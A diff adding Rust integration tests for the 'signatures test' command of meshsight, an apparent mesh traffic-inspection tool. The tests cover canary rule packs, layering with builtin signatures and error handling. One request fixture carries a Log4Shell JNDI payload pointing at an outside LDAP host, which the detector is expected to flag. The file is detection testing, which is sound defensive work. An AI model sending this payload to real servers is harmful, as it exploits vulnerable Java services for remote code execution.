@@ -37,7 +37,15 @@ fn temp(name: &str) -> PathBuf {
 
 #[test]
 fn every_command_has_help() {
-    for cmd in ["check", "explain", "replay", "learn", "istio", "generate"] {
+    for cmd in [
+        "check",
+        "explain",
+        "replay",
+        "learn",
+        "istio",
+        "generate",
+        "signatures",
+    ] {
         let o = meshsight(&[cmd, "--help"]);
         assert!(o.status.success(), "{cmd}");
         assert!(
@@ -311,4 +319,224 @@ fn istio_renders_a_wasmplugin() {
     assert!(y.contains("  pluginName: meshsight\n"), "{y}");
     assert!(y.contains("      app: catalog\n"), "{y}");
     assert!(y.contains("  failStrategy: FAIL_CLOSE\n"), "{y}");
+}
+
+/// The repo's signature corpus, as `signatures test` reads it.
+fn corpus() -> String {
+    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
+        .join("../shared/corpus/signatures.ndjson")
+        .display()
+        .to_string()
+}
+
+/// A pack with one rule on a canary indicator in the query.
+fn canary_pack() -> PathBuf {
+    let path = temp("canary-pack.json");
+    std::fs::write(
+        &path,
+        r#"{"pack": "soc-weekly", "rules": [{"id": "soc-canary", "name": "canary token",
+            "category": "canary", "severity": "high", "references": ["SOC-1"],
+            "in": ["query", "params"], "match": {"any": ["meshsight-canary-ioc"]}}]}"#,
+    )
+    .unwrap();
+    path
+}
+
+/// Three raw HTTP/1.1 requests: the canary in the query, Log4Shell in a header, a benign GET.
+fn raw_requests() -> PathBuf {
+    let path = temp("requests.http");
+    std::fs::write(
+        &path,
+        "GET /search?q=meshsight-canary-ioc HTTP/1.1\r\nHost: shop\r\n\r\n\
+         GET /home HTTP/1.1\r\nHost: shop\r\nX-Api-Version: ${jndi:ldap://198.51.100.7/a}\r\n\r\n\
+         GET /catalog?page=2 HTTP/1.1\r\nHost: shop\r\nUser-Agent: curl/8.5\r\n\r\n",
+    )
+    .unwrap();
+    path
+}
+
+/// The rule ids column of each output line (before the summary line).
+fn fired(out: &str) -> Vec<String> {
+    out.lines()
+        .filter(|l| l.contains('\t'))
+        .map(|l| l.split('\t').nth(2).unwrap_or_default().to_string())
+        .collect()
+}
+
+#[test]
+fn signatures_test_runs_the_corpus_as_it_expects() {
+    let text = std::fs::read_to_string(corpus()).unwrap();
+    let hits = text.matches(r#""expect": "hit""#).count();
+    let total = text
+        .lines()
+        .filter(|l| l.trim_start().starts_with('{'))
+        .count();
+    let o = meshsight(&["signatures", "test", "builtin", &corpus()]);
+    assert_eq!(o.status.code(), Some(0), "{}{}", stdout(&o), stderr(&o));
+    let out = stdout(&o);
+    assert!(
+        out.ends_with(&format!(
+            "{hits} of {total} requests matched; 0 not as expected\n"
+        )),
+        "{out}"
+    );
+    assert!(!out.contains("UNEXPECTED"), "{out}");
+}
+
+#[test]
+fn signatures_test_layers_a_pack_over_the_builtin_one_and_names_rule_ids() {
+    let (pack, requests) = (canary_pack(), raw_requests());
+    let pack = pack.to_str().unwrap();
+    let requests = requests.to_str().unwrap();
+    let o = meshsight(&["signatures", "test", pack, requests]);
+    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
+    let rows = fired(&stdout(&o));
+    assert_eq!(rows.len(), 3, "{}", stdout(&o));
+    assert_eq!(rows[0], "soc-canary");
+    assert!(rows[1].contains("ms-log4shell-jndi"), "{rows:?}");
+    assert_eq!(rows[2], "-");
+    assert!(
+        stdout(&o).contains("2 of 3 requests matched"),
+        "{}",
+        stdout(&o)
+    );
+
+    // By itself the pack knows nothing of Log4Shell.
+    let o = meshsight(&["signatures", "test", pack, requests, "--alone"]);
+    assert_eq!(fired(&stdout(&o)), ["soc-canary", "-", "-"]);
+
+    let o = meshsight(&["signatures", "test", pack, requests, "--json"]);
+    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
+    let report: serde_json::Value = serde_json::from_str(&stdout(&o)).unwrap();
+    assert_eq!(report["matched"], 2);
+    assert_eq!(
+        report["requests"][0]["rules"],
+        serde_json::json!(["soc-canary"])
+    );
+    assert_eq!(
+        report["requests"][0]["categories"],
+        serde_json::json!(["canary"])
+    );
+    assert_eq!(
+        report["requests"][0]["request"]["path"],
+        "/search?q=meshsight-canary-ioc"
+    );
+}
+
+#[test]
+fn signatures_test_refuses_a_bad_pack_with_its_json_path() {
+    let pack = temp("bad-pack.json");
+    std::fs::write(
+        &pack,
+        r#"{"pack": "x", "rules": [{"id": "a", "name": "a", "category": "c", "severity": "high",
+            "in": ["headers"], "match": {"any": ["ok", ""]}}]}"#,
+    )
+    .unwrap();
+    let o = meshsight(&[
+        "signatures",
+        "test",
+        pack.to_str().unwrap(),
+        raw_requests().to_str().unwrap(),
+    ]);
+    assert_eq!(o.status.code(), Some(1));
+    assert!(
+        stderr(&o).contains("rules[0].match.any[1]"),
+        "{}",
+        stderr(&o)
+    );
+    assert!(stdout(&o).is_empty(), "{}", stdout(&o));
+}
+
+#[test]
+fn signatures_test_runs_a_policy_files_signatures_as_the_module_compiles_them() {
+    let mut policy: serde_json::Value =
+        serde_json::from_str(&std::fs::read_to_string(fixture("one_pass.json")).unwrap()).unwrap();
+    let pack: serde_json::Value =
+        serde_json::from_str(&std::fs::read_to_string(canary_pack()).unwrap()).unwrap();
+    policy["mirror"]["signatures"] = serde_json::json!({"builtin": false, "packs": [pack]});
+    let path = temp("policy-with-pack.json");
+    std::fs::write(&path, policy.to_string()).unwrap();
+    let requests = raw_requests();
+    let o = meshsight(&[
+        "signatures",
+        "test",
+        path.to_str().unwrap(),
+        requests.to_str().unwrap(),
+    ]);
+    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
+    // `"builtin": false` in the policy: only the pack's rule fires.
+    assert_eq!(fired(&stdout(&o)), ["soc-canary", "-", "-"]);
+
+    let o = meshsight(&[
+        "signatures",
+        "test",
+        path.to_str().unwrap(),
+        requests.to_str().unwrap(),
+        "--alone",
+    ]);
+    assert_eq!(o.status.code(), Some(2));
+    assert!(stderr(&o).contains("--alone"), "{}", stderr(&o));
+
+    let allowlist_only = temp("allowlist-only.json");
+    std::fs::write(
+        &allowlist_only,
+        serde_json::json!({"allowlist": policy["allowlist"]}).to_string(),
+    )
+    .unwrap();
+    let o = meshsight(&[
+        "signatures",
+        "test",
+        allowlist_only.to_str().unwrap(),
+        requests.to_str().unwrap(),
+    ]);
+    assert_eq!(o.status.code(), Some(2));
+    assert!(stderr(&o).contains("no mirror section"), "{}", stderr(&o));
+}
+
+#[test]
+fn signatures_test_fails_when_a_request_is_not_as_expected() {
+    let requests = temp("expect.ndjson");
+    std::fs::write(
+        &requests,
+        concat!(
+            "// a SOC's own regression corpus\n",
+            r#"{"name": "canary", "path": "/s?q=meshsight-canary-ioc", "expect": "hit"}"#,
+            "\n",
+            r#"{"name": "quiet", "path": "/catalog", "expect": "hit"}"#,
+            "\n",
+            r#"{"name": "bad json", "path": 3}"#,
+            "\n",
+        ),
+    )
+    .unwrap();
+    let pack = canary_pack();
+    let o = meshsight(&[
+        "signatures",
+        "test",
+        pack.to_str().unwrap(),
+        requests.to_str().unwrap(),
+    ]);
+    // The third line is not a request: bad input, named by file and line.
+    assert_eq!(o.status.code(), Some(2));
+    assert!(stderr(&o).contains("expect.ndjson:4"), "{}", stderr(&o));
+
+    let text = std::fs::read_to_string(&requests).unwrap();
+    std::fs::write(
+        &requests,
+        text.lines().take(3).collect::<Vec<_>>().join("\n"),
+    )
+    .unwrap();
+    let o = meshsight(&[
+        "signatures",
+        "test",
+        pack.to_str().unwrap(),
+        requests.to_str().unwrap(),
+    ]);
+    assert_eq!(o.status.code(), Some(1), "{}", stdout(&o));
+    let out = stdout(&o);
+    assert!(
+        out.contains("quiet\tGET /catalog\t-\tUNEXPECTED (expected hit)"),
+        "{out}"
+    );
+    assert!(out.contains("1 not as expected"), "{out}");
 }
